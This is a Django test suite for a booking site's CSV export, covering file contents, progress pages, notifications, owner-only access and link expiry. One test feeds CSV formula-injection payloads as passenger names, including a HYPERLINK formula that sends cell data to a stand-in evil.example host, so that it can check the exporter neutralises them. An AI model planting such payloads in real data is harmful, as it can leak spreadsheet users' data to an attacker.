"""Export my bookings (CSV): the file, its safety, progress, the alert and e-mail, access, expiry."""

import csv
import io
import threading
import uuid
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
import time_machine
from django.core.files.storage import InMemoryStorage, default_storage
from django.db import connection, connections
from django.urls import reverse
from django.utils import timezone

from accounts.tests.factories import StaffFactory, UserFactory, verified_login
from booking_site.lib import jobs
from bookings import services
from bookings.models import BookingExport, Ticket
from bookings.services import exports
from bookings.tasks import booking_export_run, booking_exports_sweep
from bookings.tests.factories import make_booking
from flights.tests.factories import AirportFactory, FlightFactory
from notifications.models import Alert, OutboxMessage
from notifications.tests.brokers import UNREACHABLE, broker

pytestmark = pytest.mark.django_db

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


class BrokenStorage(InMemoryStorage):
    """An object store that is down: every save fails."""

    def _save(self, name, content):
        raise OSError("storage unavailable")


@pytest.fixture(autouse=True)
def _exports_in_an_object_store(settings):
    # In-memory storage has no local path: the export must work through the storage API alone.
    settings.STORAGES = {**settings.STORAGES, "default": {"BACKEND": "django.core.files.storage.InMemoryStorage"}}
    settings.EXPORT_EXPIRY_HOURS = 24
    settings.CURRENCY = "EUR"


@pytest.fixture
def transatlantic():
    london = AirportFactory(iata="LHR", city="London", tz="Europe/London")
    new_york = AirportFactory(iata="JFK", city="New York", tz="America/New_York")
    departs = datetime(2027, 7, 1, 5, 0, tzinfo=UTC)  # 06:00 BST in London
    return FlightFactory(
        number="SK100",
        origin=london,
        destination=new_york,
        departs_at=departs,
        arrives_at=departs + timedelta(hours=8),  # 09:00 EDT in New York
        price=Decimal("200.00"),
    )


def _start(client, user, django_capture_on_commit_callbacks):
    """Press the button; the task runs eagerly after commit. Returns the response and export."""
    client.force_login(user)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("bookings:export_start"))
    return response, BookingExport.objects.filter(user=user).latest("pk")


def _rows(export: BookingExport) -> list[list[str]]:
    with default_storage.open(export.file.name, "rb") as handle:
        raw = handle.read()
    assert raw.startswith("\ufeff".encode())  # the BOM: spreadsheets read the names as UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _run(export_id: int) -> bool:
    return booking_export_run.delay(export_id).get()


@pytest.mark.parametrize("first", DANGEROUS)
def test_safe_cell_neutralises_every_formula_trigger(first):
    assert exports.safe_cell(f"{first}1+1") == f"'{first}1+1"


@pytest.mark.parametrize("value", ["Ann Lee", "1+1", "", "SK100", "a=b", " =1"])
def test_safe_cell_leaves_ordinary_text_alone(value):
    assert exports.safe_cell(value) == value


def test_export_writes_every_passenger_with_local_times_and_refunds(
    client, transatlantic, django_capture_on_commit_callbacks
):
    user = UserFactory()
    family = make_booking(user=user, flight=transatlantic, names=["Ann Lee", "Bob Lee"])
    solo = make_booking(user=user, flight=FlightFactory(departs_at=transatlantic.departs_at + timedelta(days=3)))
    bob = family.tickets.get(passenger_name="Bob Lee")
    services.booking_cancel(user=user, booking_id=family.pk, ticket_ids=[bob.pk])
    make_booking(flight=transatlantic)  # someone else's: not in the file

    response, export = _start(client, user, django_capture_on_commit_callbacks)

    assert response.status_code == 302 and response.url == reverse("bookings:export", args=[export.pk])
    export.refresh_from_db()
    assert export.status == BookingExport.Status.DONE
    assert (export.progress_done, export.progress_total) == (2, 2)
    header, *rows = _rows(export)
    assert header == exports.HEADER
    by_name = {row[header.index("Passenger")]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_name) == {"Ann Lee", "Bob Lee", "Passenger 1"}
    ann, bob_row = by_name["Ann Lee"], by_name["Bob Lee"]
    assert ann["Booking reference"] == family.reference and ann["Booking status"] == "Confirmed"
    assert ann["Flight"] == "SK100" and ann["From"] == "London (LHR)" and ann["To"] == "New York (JFK)"
    assert ann["Departure (local time)"] == "2027-07-01 06:00 BST"
    assert ann["Departure time zone"] == "Europe/London"
    assert ann["Arrival (local time)"] == "2027-07-01 09:00 EDT"
    assert ann["Fare"] == "200.00" and ann["Currency"] == "EUR"
    assert ann["Passenger status"] == "Active" and ann["Refund"] == "" and ann["Cancelled at (UTC)"] == ""
    assert bob_row["Passenger status"] == "Cancelled" and bob_row["Refund"] == "200.00"
    assert bob_row["Cancelled at (UTC)"].endswith(" UTC")
    # By departure: the family trip first, then the solo one three days later.
    assert [row[0] for row in rows] == [family.reference, family.reference, solo.reference]


def test_export_neutralises_formulas_in_every_dangerous_passenger_name(
    client, transatlantic, django_capture_on_commit_callbacks
):
    user = UserFactory()
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    names = [hyperlink, "+SUM(1,2)", "-2+3", "@cmd", "Tab Name", "Return Name"]
    booking = make_booking(user=user, flight=transatlantic, names=names)
    # A name that starts with a tab or CR cannot come through the form (it is stripped):
    # put it in the database directly, as an older import might have.
    tickets = list(booking.tickets.order_by("pk"))
    Ticket.objects.filter(pk=tickets[4].pk).update(passenger_name="\t=1+1")
    Ticket.objects.filter(pk=tickets[5].pk).update(passenger_name="\r=1+1")

    _, export = _start(client, user, django_capture_on_commit_callbacks)

    header, *rows = _rows(export)
    written = [row[header.index("Passenger")] for row in rows]
    assert written == ["'" + hyperlink, "'+SUM(1,2)", "'-2+3", "'@cmd", "'\t=1+1", "'\r=1+1"]
    for row in rows:  # no cell anywhere in the file starts a formula
        assert not any(cell.startswith(tuple(DANGEROUS)) for cell in row)


def test_second_click_shows_the_running_export_instead_of_starting_another(client):
    user = UserFactory()
    client.force_login(user)
    first = client.post(reverse("bookings:export_start"))  # not committed-and-run: still pending
    second = client.post(reverse("bookings:export_start"), follow=True)

    export = BookingExport.objects.get(user=user)
    assert first.url == reverse("bookings:export", args=[export.pk])
    assert second.redirect_chain[-1][0] == reverse("bookings:export", args=[export.pk])
    assert "already have an export in progress" in second.content.decode()
    assert export.status == BookingExport.Status.PENDING


def test_export_page_refreshes_itself_without_javascript_while_running(client):
    user = UserFactory()
    export = BookingExport.objects.create(
        user=user, status=BookingExport.Status.RUNNING, progress_done=3, progress_total=12
    )
    client.force_login(user)

    page = client.get(reverse("bookings:export", args=[export.pk])).content.decode()
    progress = client.get(reverse("bookings:export_progress", args=[export.pk])).json()

    assert '<noscript><meta http-equiv="refresh"' in page
    assert 'role="progressbar"' in page and 'aria-valuenow="25"' in page
    assert "3 of 12 bookings written" in page
    assert "js/job_progress.js" in page
    url = reverse("bookings:export_progress", args=[export.pk])
    assert f'data-job-progress-url="{url}" data-job-status="running"' in page
    assert progress == {
        "status": "running",
        "status_display": "In progress",
        "finished": False,
        "done": 3,
        "total": 12,
        "percent": 25,
        "text": "3 of 12 bookings written",
        "url": reverse("bookings:export", args=[export.pk]),
    }


def test_finished_export_page_shows_download_link_and_expiry_without_refreshing(
    client, transatlantic, django_capture_on_commit_callbacks
):
    user = UserFactory()
    make_booking(user=user, flight=transatlantic)
    _, export = _start(client, user, django_capture_on_commit_callbacks)

    page = client.get(reverse("bookings:export", args=[export.pk])).content.decode()

    assert reverse("bookings:export_download", args=[export.pk]) in page
    assert "The download link expires on" in page and f"{export.expires_at:%H:%M}" in page
    assert "http-equiv" not in page and "job_progress.js" not in page


@pytest.mark.django_db(transaction=True)
def test_export_progress_is_committed_as_it_goes(monkeypatch, transatlantic):
    """Another connection (the progress page) sees each chunk's progress while the job runs."""
    monkeypatch.setattr(exports, "CHUNK_SIZE", 2)
    monkeypatch.setattr(jobs, "REPORT_EVERY_S", 0)  # every chunk, however fast
    user = UserFactory()
    for _ in range(5):
        make_booking(user=user, flight=transatlantic)
    export = BookingExport.objects.create(user=user)
    seen = []

    def read_from_another_connection():
        try:
            row = BookingExport.objects.values("status", "progress_done", "progress_total").get(pk=export.pk)
            seen.append((row["status"], row["progress_done"], row["progress_total"]))
        finally:
            connections.close_all()

    def after_progress_update(execute, sql, params, many, context):
        result = execute(sql, params, many, context)
        committed = not connection.in_atomic_block
        if committed and sql.startswith('UPDATE "bookings_bookingexport"') and '"progress_done" =' in sql:
            reader = threading.Thread(target=read_from_another_connection)
            reader.start()
            reader.join()
        return result

    with connection.execute_wrapper(after_progress_update):
        assert exports.export_run(export_id=export.pk) is True

    # Claimed (nothing yet), the total, then after each chunk of two bookings.
    assert seen == [("running", 0, 0), ("running", 0, 5), ("running", 2, 5), ("running", 4, 5), ("running", 5, 5)]


def test_done_export_writes_one_alert_and_one_email_with_an_absolute_link(
    client, transatlantic, django_capture_on_commit_callbacks, mailoutbox
):
    user = UserFactory(email="ann@example.test")
    make_booking(user=user, flight=transatlantic)
    mailoutbox.clear()  # the booking confirmation

    _, export = _start(client, user, django_capture_on_commit_callbacks)
    with django_capture_on_commit_callbacks(execute=True):
        again = _run(export.pk)

    assert again is False  # a second run of a finished export does nothing
    page = reverse("bookings:export", args=[export.pk])
    alert = Alert.objects.get(user_id=user.pk)
    assert alert.url == page and "ready" in alert.text and alert.read_at is None
    message = OutboxMessage.objects.get(template="export_ready")
    assert message.dedupe_key == f"booking-export-ready:{export.pk}" and message.to == "ann@example.test"
    assert len(mailoutbox) == 1
    email = mailoutbox[0]
    assert email.subject == "Your bookings export is ready"
    assert f"http://testserver{page}" in email.body
    assert f'href="http://testserver{page}"' in email.alternatives[0][0]


def test_failed_export_is_marked_failed_tells_nobody_and_can_be_started_again(
    client, settings, transatlantic, django_capture_on_commit_callbacks
):
    settings.STORAGES = {**settings.STORAGES, "default": {"BACKEND": f"{__name__}.BrokenStorage"}}
    user = UserFactory()
    make_booking(user=user, flight=transatlantic)

    _, export = _start(client, user, django_capture_on_commit_callbacks)

    export.refresh_from_db()
    assert export.status == BookingExport.Status.FAILED and not export.file
    assert not Alert.objects.filter(user_id=user.pk).exists()
    assert not OutboxMessage.objects.filter(template="export_ready").exists()
    assert "The export failed" in client.get(reverse("bookings:export", args=[export.pk])).content.decode()
    client.post(reverse("bookings:export_start"))
    assert BookingExport.objects.filter(user=user).count() == 2


def test_owner_downloads_the_file_as_an_attachment(client, transatlantic, django_capture_on_commit_callbacks):
    user = UserFactory()
    booking = make_booking(user=user, flight=transatlantic)
    _, export = _start(client, user, django_capture_on_commit_callbacks)

    response = client.get(reverse("bookings:export_download", args=[export.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;") and 'filename="skyway-bookings-' in disposition
    assert "no-store" in response["Cache-Control"]
    assert booking.reference in b"".join(response.streaming_content).decode("utf-8-sig")


@pytest.mark.parametrize("actor", ["other", "staff"])
def test_nobody_but_the_owner_sees_or_downloads_an_export(
    client, transatlantic, django_capture_on_commit_callbacks, actor
):
    owner = UserFactory()
    make_booking(user=owner, flight=transatlantic)
    _, export = _start(client, owner, django_capture_on_commit_callbacks)
    verified_login(client, StaffFactory() if actor == "staff" else UserFactory())

    for name in ("bookings:export", "bookings:export_progress", "bookings:export_download"):
        assert client.get(reverse(name, args=[export.pk])).status_code == 404


def test_download_after_expiry_is_gone_and_deletes_the_file(client, transatlantic, django_capture_on_commit_callbacks):
    user = UserFactory()
    make_booking(user=user, flight=transatlantic)
    _, export = _start(client, user, django_capture_on_commit_callbacks)
    name = export.file.name
    assert default_storage.exists(name)

    with time_machine.travel(export.expires_at + timedelta(seconds=1)):
        response = client.get(reverse("bookings:export_download", args=[export.pk]))
        again = client.get(reverse("bookings:export_download", args=[export.pk]))
        page = client.get(reverse("bookings:export", args=[export.pk])).content.decode()

    assert response.status_code == 410 and again.status_code == 410
    assert "This export has expired" in response.content.decode() and "Start a new export" in response.content.decode()
    assert not default_storage.exists(name)
    export.refresh_from_db()
    assert export.status == BookingExport.Status.EXPIRED and not export.file
    assert "This export has expired" in page


def test_sweep_deletes_expired_files_and_keeps_fresh_ones(client, transatlantic, django_capture_on_commit_callbacks):
    old_user, new_user = UserFactory(), UserFactory()
    make_booking(user=old_user, flight=transatlantic)
    make_booking(user=new_user, flight=transatlantic)
    _, old = _start(client, old_user, django_capture_on_commit_callbacks)
    with time_machine.travel(timezone.now() + timedelta(hours=12)):
        _, new = _start(client, new_user, django_capture_on_commit_callbacks)

    with time_machine.travel(old.expires_at + timedelta(minutes=5)):
        result = booking_exports_sweep.delay().get()

    old.refresh_from_db()
    new.refresh_from_db()
    assert result == {"expired": 1, "resumed": 0}
    assert old.status == BookingExport.Status.EXPIRED and not default_storage.exists(old.file.name or "x")
    assert new.status == BookingExport.Status.DONE and default_storage.exists(new.file.name)


def test_sweep_runs_an_export_whose_task_was_lost(client, transatlantic):
    user = UserFactory()
    make_booking(user=user, flight=transatlantic)
    client.force_login(user)
    client.post(reverse("bookings:export_start"))  # on-commit callback never ran: the task was lost
    export = BookingExport.objects.get(user=user)

    with time_machine.travel(timezone.now() + BookingExport.WAITING_AFTER + timedelta(seconds=5)):
        result = booking_exports_sweep.delay().get()

    export.refresh_from_db()
    assert result == {"expired": 0, "resumed": 1}
    assert export.status == BookingExport.Status.DONE and default_storage.exists(export.file.name)


def test_export_starts_while_the_broker_is_down_and_the_sweep_runs_it_later(
    client, transatlantic, django_capture_on_commit_callbacks
):
    user = UserFactory()
    make_booking(user=user, flight=transatlantic)
    client.force_login(user)
    from booking_site.lib.broker import publish_breaker

    with broker(UNREACHABLE):
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(reverse("bookings:export_start"))  # real Celery publish: it fails
        # Within the pause after a failed publish, the next one is not even tried (it would
        # cost the request ~2 s of connection retries): the sweep has it either way.
        BookingExport.objects.filter(user=user).update(status=BookingExport.Status.DONE)
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("bookings:export_start"))
        attempts, skipped = publish_breaker.attempts, publish_breaker.skipped
    assert (attempts, skipped) == (1, 1)
    BookingExport.objects.filter(user=user).order_by("pk").last().delete()
    BookingExport.objects.filter(user=user).update(status=BookingExport.Status.PENDING)

    export = BookingExport.objects.get(user=user)
    assert response.status_code == 302 and response.url == reverse("bookings:export", args=[export.pk])
    assert export.status == BookingExport.Status.PENDING

    # The broker is back: the next sweep finds the export nobody picked up and runs it.
    with time_machine.travel(timezone.now() + BookingExport.WAITING_AFTER + timedelta(seconds=5)):
        booking_exports_sweep.delay().get()
    export.refresh_from_db()
    assert export.status == BookingExport.Status.DONE


def test_the_sweep_with_the_broker_down_tries_one_publish_and_leaves_lost_exports_for_the_next(transatlantic):
    from booking_site.lib.broker import publish_breaker

    users = [UserFactory() for _ in range(3)]
    for user in users:
        make_booking(user=user, flight=transatlantic)
        BookingExport.objects.create(user=user)  # pending: its task was lost
    with broker(UNREACHABLE):
        with time_machine.travel(timezone.now() + BookingExport.WAITING_AFTER + timedelta(seconds=5)):
            result = booking_exports_sweep()  # the task's body, in this process, as a worker runs it
        attempts, skipped = publish_breaker.attempts, publish_breaker.skipped

    # One publish fails fast and the breaker skips the other two; nothing raises, nothing is lost.
    assert result == {"expired": 0, "resumed": 0}
    assert (attempts, skipped) == (1, 2)
    assert BookingExport.objects.filter(status=BookingExport.Status.PENDING).count() == 3


def test_a_live_running_export_is_not_taken_over_but_a_stalled_one_is(transatlantic):
    user = UserFactory()
    make_booking(user=user, flight=transatlantic)
    export = BookingExport.objects.create(
        user=user, status=BookingExport.Status.RUNNING, run_id=uuid.uuid4(), heartbeat_at=timezone.now()
    )

    assert _run(export.pk) is False  # another worker is on it
    with time_machine.travel(timezone.now() + BookingExport.STALE_AFTER + timedelta(minutes=1)):
        assert _run(export.pk) is True  # that worker died: this run finishes the job

    export.refresh_from_db()
    assert export.status == BookingExport.Status.DONE and Alert.objects.filter(user_id=user.pk).count() == 1


@pytest.mark.parametrize("bookings", [10, 30])
def test_export_query_count_does_not_grow_with_bookings(django_assert_max_num_queries, transatlantic, bookings):
    user = UserFactory()
    for index in range(bookings):
        make_booking(user=user, flight=transatlantic if index % 2 else FlightFactory(), passengers=1 + index % 3)
    export = BookingExport.objects.create(user=user)

    # claim, user, ids, total, one chunk (bookings with flights and airports, their tickets),
    # progress, then the finishing transaction: the finishing UPDATE, alert, outbox (+ savepoints).
    with django_assert_max_num_queries(16):
        assert exports.export_run(export_id=export.pk) is True

    _header, *rows = _rows(BookingExport.objects.get(pk=export.pk))
    assert len(rows) == sum(1 + index % 3 for index in range(bookings))
